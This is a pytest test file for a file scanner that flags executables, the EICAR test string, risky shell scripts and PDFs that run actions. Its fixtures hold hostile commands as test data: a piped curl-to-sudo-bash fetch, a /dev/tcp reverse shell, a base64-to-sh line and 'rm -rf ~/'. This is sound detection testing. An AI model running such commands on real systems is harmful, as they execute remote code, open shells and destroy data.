from __future__ import annotations

import io
import zipfile
import zlib
from dataclasses import replace
from pathlib import PurePath

import pytest

from scanning.scanners import Verdict, scanners
from scanning.scanners._executables import EICAR
from scanning.scanners._file_policy import FilePolicy
from scanning.scanners.base import ScannerOptions


def windows() -> bytes:
    return b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00" + bytes(40)


def jar() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: A\n")
    return made.getvalue()


PROGRAMS = {
    "lib.so.6": b"\x7fELF" + bytes(60),
    "setup.exe": windows(),
    "app": b"\xcf\xfa\xed\xfe" + bytes(60),
    "fat.dylib": b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + bytes(60),
    "A.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(60),
    "x.deb": b"!<arch>\ndebian-binary   " + bytes(60),
    "x.rpm": b"\xed\xab\xee\xdb" + bytes(60),
    "x.msi": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60),
    "x.wasm": b"\x00asm\x01\x00\x00\x00",
    "x.pkg": b"xar!" + bytes(60),
    "x.jar": jar(),
    "m.cpython-311.pyc": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(20),
}


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs_are_suspicious_under_their_own_name_and_unsafe_under_another(scan_bytes, name):
    report = scan_bytes("file_rules", PROGRAMS[name], name)
    assert report.verdict is Verdict.SUSPICIOUS
    assert scan_bytes("file_rules", PROGRAMS[name], "model.bin").verdict is Verdict.UNSAFE
    assert {one.rule for one in report.findings} <= scanners.get("file_rules").rules.keys()


@pytest.mark.parametrize("content", [b"MZ are letters\n", b"MZ" + bytes(100), b"\x80\x02N.", b"{}"])
def test_bytes_that_only_begin_alike_are_no_program(scan_bytes, content):
    assert scan_bytes("file_rules", content, "model.bin").findings == ()


def test_an_image_of_a_disk_is_known_by_its_name_alone(scan_bytes):
    assert scan_bytes("file_rules", b"\x00" * 100, "x.dmg").verdict is Verdict.SUSPICIOUS


def test_the_test_virus_is_unsafe(scan_bytes):
    assert scan_bytes("file_rules", EICAR, "eicar.txt").verdict is Verdict.UNSAFE


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("#!/bin/sh\npip install torch\n", Verdict.SUSPICIOUS),
        ("curl -s http://x/y | sudo bash\n", Verdict.UNSAFE),
        ("# curl http://x | sh\ntrue\n", Verdict.SUSPICIOUS),
        ("bash -i >& /dev/tcp/10.0.0.1/9 0>&1\n", Verdict.UNSAFE),
        ("echo dHJ1ZQ== | base64 -d | sh\n", Verdict.UNSAFE),
        ("x" * 5000 + "; curl http://x | sh\n", Verdict.UNSAFE),
        ("rm -rf ~/\n", Verdict.UNSAFE),
        ("rm -rf ./build\n", Verdict.SUSPICIOUS),
    ],
)
def test_a_script_is_never_clean_and_an_attack_in_it_is_unsafe(scan_bytes, text, verdict):
    assert scan_bytes("file_rules", text.encode(), "run.sh").verdict is verdict


def test_an_unlisted_ending_is_told_and_a_listed_one_is_not(scan_bytes):
    [finding] = scan_bytes("file_rules", b"x", "weights.strange").findings
    assert (finding.rule, finding.severity) == ("ending_not_listed", "low")
    assert scan_bytes("file_rules", b"x", "LICENSE").findings == ()


def test_the_policy_is_data_and_part_of_the_engines_version(tmp_path, options):
    strict = replace(options, file_policy=FilePolicy(allowed=frozenset({".txt"}), max_bytes=3))
    assert ScannerOptions.from_json(strict.to_json()) == strict
    cls = scanners.get("file_rules")
    assert cls(strict).engine != cls(options).engine
    path = tmp_path / "x"
    path.write_bytes(b"four")
    rules = {one.rule for one in cls(strict).scan(path, PurePath("a.bin")).findings}
    assert rules == {"ending_not_listed", "too_large"}


_ACT = b"1 0 obj <</Type/Catalog/OpenAction <</S/JavaScript/JS(app.alert(1))>> >> endobj\n"
_PACKED = b"2 0 obj <</Filter/FlateDecode>> stream\n" + zlib.compress(_ACT) + b"\nendstream"


@pytest.mark.parametrize(
    ("content", "verdict"),
    [
        (b"%PDF-1.4\n" + _ACT, Verdict.SUSPICIOUS),
        (b"\n%PDF-1.4\n" + _ACT.replace(b"Java", b"#4aava"), Verdict.SUSPICIOUS),
        (b"\x01\x02%PDF-1.4\n<</S/Launch/F(x)>>", Verdict.SUSPICIOUS),
        (b"%PDF-1.7\n" + _PACKED, Verdict.SUSPICIOUS),
        (b"%PDF-1.4\n<</Names<</EmbeddedFiles 3 0 R>> >>", Verdict.SUSPICIOUS),
        (b"%PDF-1.4\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n", Verdict.CLEAN),
        (b"MARK = '%PDF-'  # before /JavaScript\n", Verdict.CLEAN),
    ],
)
def test_a_document_that_acts_is_suspicious(scan_bytes, content, verdict):
    report = scan_bytes("file_rules", content, "paper.pdf")
    assert report.verdict is verdict
    assert {one.rule for one in report.findings} <= {"document_acts"}
